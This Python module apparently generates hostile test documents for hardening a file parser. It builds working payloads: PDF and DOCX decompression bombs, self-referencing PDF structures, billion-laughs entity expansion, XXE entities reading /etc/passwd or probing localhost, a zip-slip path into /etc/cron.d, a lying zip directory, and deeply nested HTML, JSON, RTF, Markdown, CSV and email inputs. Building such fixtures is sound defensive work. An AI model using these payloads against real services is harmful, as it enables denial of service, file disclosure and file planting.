"""Documents made to hurt whoever reads them. Each is built in little memory and is small on the disk."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

from pypdf import PdfWriter

_MIB = 1024 * 1024
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_DOCTYPE_OF_LAUGHS = b"<!DOCTYPE d [<!ENTITY a0 'lollollollol'>" + b"".join(
    b"<!ENTITY a%d '%s'>" % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
)


def _pdf(objects: list[bytes]) -> bytes:
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)


def _packed(chunk: bytes, times: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(chunk) for _ in range(times)) + packer.flush()


def _page(stream: bytes, *more: bytes, filters: bytes = b"/FlateDecode", resources: bytes = b"") -> bytes:
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<<" + resources + b">>>>",
            b"<</Length %d/Filter %s>>stream\n%s\nendstream" % (len(stream), filters, stream),
            *more,
        ]
    )


def _form(body: bytes, forms: bytes) -> bytes:
    head = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length %d/Resources<</XObject<<%s>>>>>>" % (
        len(body),
        forms,
    )
    return head + b"stream\n" + body + b"\nendstream"


def _nested_forms() -> bytes:
    """Each draws the next ten times: 10^9 in the end."""
    forms = [_form(b"/X Do " * 10, b"/X %d 0 R" % number) for number in range(6, 15)]
    return _page(zlib.compress(b"/X Do"), *forms, _form(b"BT ET", b""), resources=b"/XObject<</X 5 0 R>>")


def _self_drawing() -> bytes:
    form = _form(b"/X Do /X Do", b"/X 5 0 R")
    return _page(zlib.compress(b"/X Do"), form, resources=b"/XObject<</X 5 0 R>>")


def _own_parent() -> bytes:
    return _page(zlib.compress(b"BT ET")).replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")


def _many_pages() -> bytes:
    writer = PdfWriter()
    for _ in range(12_000):
        writer.add_blank_page(9, 9)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _docx(parts: Iterable[bytes]) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/document.xml", "w", force_zip64=True) as document,
    ):
        for part in parts:
            document.write(part)
    return out.getvalue()


def docx(inside: bytes) -> bytes:
    """A Word document as small as it gets."""
    return _docx(_body(inside))


def _body(*inside: bytes) -> Iterable[bytes]:
    yield b"<w:document " + _W + b"><w:body>"
    yield from inside
    yield b"</w:body></w:document>"


def _paragraphs(count: int) -> Iterable[bytes]:
    """Little that repeats in each, so that the ratio says nothing."""
    for number in range(count // 1000):
        yield b"".join(b'<w:p w:id="%d"/>' % (number * 997 * salt % 1_000_003) for salt in range(1000))


def _many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(20_000):
            archive.writestr(f"{number}", b"")
    return out.getvalue()


def _escaping() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../etc/cron.d/mill", b"x")
        archive.writestr("word/document.xml", b"".join(_body(_SAID % b"x")))
    return out.getvalue()


def _lying(size: int) -> bytes:
    """Its directory claims that 10 bytes are `size`."""
    data = bytearray(_docx(_body(b"<w:p/>")))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = size.to_bytes(4, "little")
    return bytes(data)


def _wide_sheet() -> bytes:
    """One cell at the far corner: 17 billion cells to whoever fills the rest."""
    names = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    relations = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    cells = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    parts = {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": b"<workbook %s %s><sheets><sheet name='a' sheetId='1' r:id='r1'/></sheets></workbook>" % (names, relations),
        "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="%s" Target="worksheets/sheet1.xml"/></Relationships>' % kind,
        "xl/worksheets/sheet1.xml": b"<worksheet %s><sheetData>%s</sheetData></worksheet>" % (names, cells),
    }  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


_SECRET = b"<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
_VISIT = b"<!DOCTYPE d [<!ENTITY x SYSTEM 'http://127.0.0.1:9/x'>]>"
_SAID = b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>"

BOMBS: dict[str, Callable[[], bytes]] = {
    "a gigabyte of spaces.pdf": lambda: _page(_packed(b" " * _MIB, 1024)),
    "packed twice.pdf": lambda: _page(zlib.compress(_packed(b" " * _MIB, 512), 9), filters=b"[/FlateDecode/FlateDecode]"),
    "open brackets.pdf": lambda: _page(_packed(b"(" * _MIB, 64)),
    "nested arrays.pdf": lambda: _page(_packed(b"[" * _MIB, 5)),
    "much text.pdf": lambda: _page(_packed(b"BT (mill) Tj ET " * 65536, 256)),
    "its own parent.pdf": _own_parent,
    "draws itself.pdf": _self_drawing,
    "draws a billion.pdf": _nested_forms,
    "12000 pages.pdf": _many_pages,
    "a gigabyte of A.docx": lambda: _docx(_body(_SAID.partition(b"%s")[0], *[b"A" * _MIB] * 1024, b"</w:t></w:r></w:p>")),
    "five million paragraphs.docx": lambda: _docx(_body(*[b"<w:p/>" * 10_000] * 500)),
    "many paragraphs.docx": lambda: _docx(_body(*_paragraphs(3_000_000))),
    "reads a file.docx": lambda: _docx([_SECRET, *_body(_SAID % b"&x;")]),
    "visits an address.docx": lambda: _docx([_VISIT, *_body(_SAID % b"&x;")]),
    "laughs.docx": lambda: _docx([_DOCTYPE_OF_LAUGHS, b"]>", *_body(_SAID % b"&a9;")]),
    "deep.docx": lambda: _docx(_body(b"<w:sdt>" * 100_000, b"</w:sdt>" * 100_000)),
    "deep tables.docx": lambda: _docx(_body(b"<w:tbl><w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p>" * 150, b"</w:tc></w:tr></w:tbl>" * 150)),
    "wide cells.docx": lambda: _docx(_body(b"<w:tbl>", b"<w:tr><w:tc><w:tcPr><w:gridSpan w:val='1000000000'/></w:tcPr></w:tc></w:tr>" * 10_000, b"</w:tbl>")),
    "20000 parts.docx": _many_entries,
    "leads out.docx": _escaping,
    "claims much.docx": lambda: _lying(2**31),
    "far corner.xlsx": _wide_sheet,
    "deep.html": lambda: b"<html>" + b"<div>" * 300_000 + b"x",
    "wide.html": lambda: b"<html><table>" + b"<tr><td colspan=1000000000 rowspan=1000000000>x" * 1000 + b"</table>",
    "deep.xml": lambda: b"<?xml version='1.0'?>" + b"<a>" * 1_000_000,
    "laughs.xml": lambda: b"<?xml version='1.0'?>" + _DOCTYPE_OF_LAUGHS + b"]><d>&a9;</d>",
    "deep.json": lambda: b"[" * 5_000_000,
    "deep.rtf": lambda: b"{\\rtf1 " + b"{" * 5_000_000,
    "open links.md": lambda: b"[" * 3_000_000,
    "stars.md": lambda: b"*a_" * 1_000_000,
    "pipes.md": lambda: b"|-" * 500_000 + b"\n" + b"|-" * 500_000,
    "many parts.eml": lambda: b"From: a\nTo: b\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=a\n\n" + b"--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 50_000,
    "quotes.csv": lambda: b'a,b\n"' + b"x" * 50_000_000,
    "columns.csv": lambda: b"," * 50_000_000,
}  # fmt: skip


def write(name: str, folder: Path) -> Path:
    path = folder / name.replace(" ", "-")
    path.write_bytes(BOMBS[name]())
    return path
